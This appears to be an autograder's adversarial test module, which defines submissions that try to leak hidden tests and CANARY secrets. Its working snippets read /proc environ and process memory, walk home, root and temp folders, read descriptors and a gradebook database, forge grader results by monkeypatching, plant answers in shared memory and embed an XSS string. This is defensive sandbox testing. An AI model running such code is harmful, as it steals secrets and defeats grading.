"""Ways to learn hidden checks, expected values, secrets and other submissions, and to carry them out.

What must not be known holds the letters CANARY and more that the student does not know.
"""

from __future__ import annotations

from tests.attacks.cases.case import RIGHT_ONE_HOT, RIGHT_SPLIT, TELL, Case, half

_KIND = "leak"


def leak(name: str, does: str, look: str, *, first: str = "", walls: bool = False) -> Case:
    """A case whose ``look()`` is called in a cell and inside both functions; what it finds is told."""
    calling = "\n    tell(look())\n    raise RuntimeError(tell(look()))\n"
    return Case(
        name,
        _KIND,
        does,
        0,
        first=f"{TELL}\n{first}\n{look}\ntell(look())\n",
        one_hot=f"def one_hot(ids, depth):{calling}",
        split=f"def split(rows, at):{calling}",
        walls=walls,
    )


def carried(name: str, does: str, split: str, *, fair: float = 5) -> Case:
    """A right ``one_hot``; ``split`` tries to carry its hidden argument out."""
    return Case(name, _KIND, does, fair, first=TELL, one_hot=RIGHT_ONE_HOT, split=split)


_FRAMES = """
def look():
    import linecache, sys
    found, frame = [], sys._getframe(1)
    while frame is not None:
        name = frame.f_code.co_filename
        found.append((name, list(frame.f_locals), "".join(linecache.getlines(name))[:20000]))
        found += [str(value)[:2000] for value in frame.f_locals.values()
                  if type(value) in (str, list, dict, tuple)]
        frame = frame.f_back
    return [item for item in found if "CANARY" in str(item) or "assert" in str(item)]
"""
_HISTORY = """
def look():
    shell = get_ipython()
    texts = [*shell.user_ns.get("In", []), *shell.user_ns.get("_ih", []), *map(str, shell.history_manager.input_hist_raw)]
    return [text for text in texts if "CANARY" in text or "hidden" in text.lower()]
"""
_GRADEBOOK = """
def look():
    import glob, re, sqlite3
    found = []
    for name in ["@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db")]:
        try:
            base = sqlite3.connect("file:" + name + "?mode=ro", uri=True)
            tables = [row[0] for row in base.execute("select name from sqlite_master where type = 'table'")]
            for table in tables:
                found += [row for row in base.execute(f'select * from "{table}"') if "CANARY" in str(row)]
        except sqlite3.Error:
            pass
        try:
            found += re.findall(rb"CANARY\\w+", open(name, "rb").read())
        except OSError:
            pass
    return found
"""
_FILES = """
def look():
    import os
    found = []
    places = ["@COURSE@", "@COURSE@/tests/hidden", "@COURSE@/solutions", "@COURSE@/.autograder",
              "@COURSE@/submitted", "..", "../..", os.path.expanduser("~root"), "/home", "/tmp", "/var/tmp", "/dev/shm", "/run",
              "/proc/1/root/root", "/proc/self/root/root"]
    for place in places:
        for folder, _, names in os.walk(place):
            if folder.count("/") > place.count("/") + 3:
                continue
            for name in names[:200]:
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(20000)
                except OSError:
                    continue
                if "CANARY" in text:
                    found.append((folder, name, text))
    return found[:50]
"""
_PROC = """
def look():
    import glob
    found = []
    for name in ("environ", "cmdline", "maps", "mountinfo", "status", "stack", "cwd", "exe"):
        for path in glob.glob("/proc/[0-9]*/" + name):
            try:
                found.append(open(path, "rb").read(100000).replace(b"\\0", b" ").decode("utf-8", "replace"))
            except OSError:
                pass
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/task/*/fd/*"):
        try:
            with open(path, "rb") as file:
                import os
                if os.path.isfile(os.path.realpath(path)):
                    found.append(file.read(100000).decode("utf-8", "replace"))
        except OSError:
            pass
    return [text for text in found if "CANARY" in text]
"""
_MEMORY = """
def look(pids=None):
    import os, re
    found = []
    for pid in pids or (os.getppid(), 1, *range(2, 10)):
        if pid == os.getpid():
            continue
        try:
            regions = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        for line in regions[:400]:
            ends, rights = line.split()[:2]
            low, high = (int(word, 16) for word in ends.split("-"))
            if "r" in rights and high - low < 2**26:
                try:
                    memory.seek(low)
                    found += re.findall(rb"CANARY\\w*", memory.read(high - low))
                except (OSError, ValueError, OverflowError):
                    pass
    return found[:50]
"""
_GC = """
def look():
    import gc
    found, seen = [], set()
    waiting = list(gc.get_objects())
    for thing in waiting[:200000]:
        if type(thing) in (dict, list, tuple, set):
            for item in list(thing.values() if type(thing) is dict else thing)[:1000]:
                if type(item) is str and "CANARY" in item and id(item) not in seen:
                    seen.add(id(item))
                    found.append(item[:2000])
    return found[:50]
"""
_SITE = """
def look():
    import glob, os, sys
    found = [sys.path, sys.argv, dict(os.environ)]
    for folder in [*sys.path, os.getcwd(), "@COURSE@"]:
        for name in glob.glob(folder + "/autograder/*/*.py") + glob.glob(folder + "/test*/**/*.py")[:200]:
            try:
                text = open(name).read(50000)
            except OSError:
                continue
            if "CANARY" in text:
                found.append((name, text))
    try:
        import solutions
        found.append(solutions.__path__)
    except ImportError:
        pass
    return found
"""
_OWN_DESCRIPTORS = """
def look():
    import os, socket
    found = []
    for number in range(256):
        try:
            found.append((number, os.readlink(f"/proc/self/fd/{number}")))
            os.lseek(number, 0, 0)
            found.append(os.read(number, 100000))
        except OSError:
            pass
        try:
            os.set_blocking(number, False)
            found.append(socket.socket(fileno=os.dup(number)).recv(100000, socket.MSG_PEEK))
        except OSError:
            pass
    return found
"""
_OTHERS_LEFT = """
def look():
    import glob, os
    found = []
    for name in [*glob.glob("/dev/shm/*"), *glob.glob("/tmp/**", recursive=True), *glob.glob("/var/tmp/*"),
                 *glob.glob("/dev/mqueue/*"), "/proc/sysvipc/shm", "/proc/net/unix", "/proc/keys"]:
        try:
            found.append((name, open(name, errors="replace").read(10000)))
        except OSError:
            pass
    return [item for item in found if "CANARY" in str(item) or "answer" in str(item)]
"""
_LEAVE = """
import ctypes, os, socket, threading
libc = ctypes.CDLL(None)
for name in ("/dev/shm/answer", "@TMP@/answer", "/var/tmp/answer", "../answer", "/box/answer", "/warm/answer"):
    try:
        open(name, "w").write("answer")
    except OSError:
        pass
libc.shmget(4242, 4096, 0o1666)
libc.semget(4242, 1, 0o1666)
libc.msgget(4242, 0o1666)
try:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0answers")
    listener.listen()
except OSError:
    pass
"""

CASES = (
    leak("leak_frames", "walks the stack from inside a call, prints callers' code and locals", _FRAMES),
    leak("leak_history", "reads In/_ih of IPython from inside the call", _HISTORY),
    leak("leak_gradebook", "reads hidden test source out of gradebook.db", _GRADEBOOK),
    leak("leak_proc", "reads environ, cmdline, fds, maps of every visible process", _PROC),
    leak("leak_parent_memory", "scans /proc/ppid/mem for the hidden tests", _MEMORY),
    leak("leak_gc", "searches gc.get_objects() and their referents from inside a call", _GC),
    Case(
        "leak_by_timing_or_score",
        _KIND,
        "encodes a hidden argument in which tests pass (residual channel)",
        0,
        one_hot="""
import time

def one_hot(ids, depth):
    bit = int(np.asarray(ids).ravel()[0]) & 1
    time.sleep(0.05 * bit)
    raise (ValueError if bit else KeyError)
""",
    ),
    leak("leak_site_packages", "looks for check code in site-packages and sys.path", _SITE),
    leak("leak_files", "walks the course, homes and temporary folders for files of others", _FILES),
    leak("leak_own_descriptors", "reads every open descriptor of its own, sockets too", _OWN_DESCRIPTORS),
    leak("leak_others_left", "looks for what other students left in shared places", _OTHERS_LEFT),
    Case(
        "leak_leaves_answers",
        _KIND,
        "leaves answers for the next one: /tmp, /dev/shm, SysV, abstract sockets",
        10,
        first=_LEAVE,
        one_hot=RIGHT_ONE_HOT,
        split=RIGHT_SPLIT,
    ),
    carried(
        "leak_exception_text",
        "raises an exception whose text is the hidden argument",
        "def split(rows, at):\n    raise ValueError(*rows, rows)\n",
    ),
    carried(
        "leak_exception_name",
        "raises an exception whose class is called as the hidden argument",
        "def split(rows, at):\n    raise type(rows[-1], (Exception,), {'__module__': rows[-1]})\n",
    ),
    carried(
        "leak_exception_group",
        "raises an exception group with notes that hold the hidden argument",
        """
def split(rows, at):
    error = ValueError(rows)
    error.add_note(rows[-1])
    raise ExceptionGroup(rows[-1], [error, type(rows[-1], (Exception,), {})(rows)])
""",
    ),
    carried(
        "leak_type_name",
        "returns an object whose class is called as the hidden argument",
        "def split(rows, at):\n    return type(rows[-1], (), {'__repr__': lambda self: rows[-1]})()\n",
    ),
    carried(
        "leak_source_line",
        "makes the hidden argument a line of its own notebook, and raises there",
        """
import linecache

def split(rows, at):
    text = "\\n" * 3 + "raise ValueError  # " + " ".join(rows)
    sources = get_ipython().compile.sources
    sources["<cell 99 split>"] = ("split", text.splitlines())
    sources["<forged>"] = (rows[-1], text.splitlines())
    linecache.cache["<forged>"] = (len(text), None, text.splitlines(True), "<forged>")
    exec(compile(text, "<cell 99 split>" if at == 1 else "<forged>", "exec"))
""",
    ),
    carried(
        "leak_forged_error",
        "forges the description of its exception: type, cell and line hold the argument",
        """
def split(rows, at):
    def lie(error, sources=None):
        return {"outcome": "raised", "type": rows[-1], "builtin": True, "ancestors": [rows[-1]],
                "cell": rows[-1], "line": 3, "text": rows[-1]}
    from autograder.worker import agent, calls
    calls.raised = lie
    raise ValueError
""",
    ),
    carried(
        "leak_forged_names",
        "says that arguments were changed whose names are the hidden argument",
        """
def split(rows, at):
    from autograder.worker import agent, calls
    real = calls.call
    calls.call = lambda *args, **kwargs: real(*args, **kwargs) | {
        "changed": [rows[-1]] * 1000, "generators": [rows[-1]] * 1000}
    calls.parameter_names = lambda *args: [rows[-1]] * 2
    rows.append("x")
    return rows[:at], rows[at:-1]
""",
        fair=7,
    ),
    carried(
        "leak_signature",
        "a signature whose parameters are called as the hidden argument",
        """
import inspect

class Split:
    def __call__(self, rows, at):
        names = [row for row in rows if row.isidentifier()][-1:] + ["at"]
        kind = inspect.Parameter.POSITIONAL_OR_KEYWORD
        self.__signature__ = inspect.Signature([inspect.Parameter(name, kind) for name in names])
        result = rows[:at], rows[at:]
        rows.clear()
        return result

split = Split()
""",
        fair=7,
    ),
    carried(
        "leak_printed",
        "prints, displays, logs, warns and writes the hidden argument",
        """
import logging, warnings

def split(rows, at):
    logging.warning("%s", rows)
    warnings.warn(str(rows))
    get_ipython().display_pub.publish({"text/plain": str(rows)})
    tell(rows)
    return tell(rows) and None
""",
    ),
    carried(
        "leak_stand_in",
        "forges a stand-in for a value, whose type and reason are the hidden argument",
        """
def split(rows, at):
    from autograder.wire import Uncarriable
    from autograder.worker import agent
    agent.outgoing = lambda thing, keep: Uncarriable(rows[-1] + " <script>alert(1)</script>", rows[-1])
    return rows
""",
    ),
    carried(
        "leak_later_cell",
        "keeps the hidden argument for a cell that is run again",
        """
import os
kept = os.path.expanduser("~") + "/kept"
if os.path.exists(kept):
    raise RuntimeError(tell(open(kept).read()))

def split(rows, at):
    open(kept, "w").write(str(rows))
    os._exit(3)
""",
    ),
    half(
        "leak_error_of_error",
        _KIND,
        "an exception whose str, repr, args, cause and traceback tell or loop",
        """
class Loud(Exception):
    def __str__(self):
        while True: pass
    __repr__ = __str__
    @property
    def args(self): raise Loud
    @property
    def __cause__(self): return self
    @property
    def __traceback__(self): return None
    @property
    def __class__(self): return ValueError

def one_hot(ids, depth):
    raise Loud
""",
    ),
    Case(
        "leak_returned",
        _KIND,
        "returns its arguments: what a function returns is shown, 40 characters of it",
        5,
        one_hot=RIGHT_ONE_HOT,
        split="def split(rows, at):\n    return rows[::-1], rows\n",
        loud=True,
    ),
)
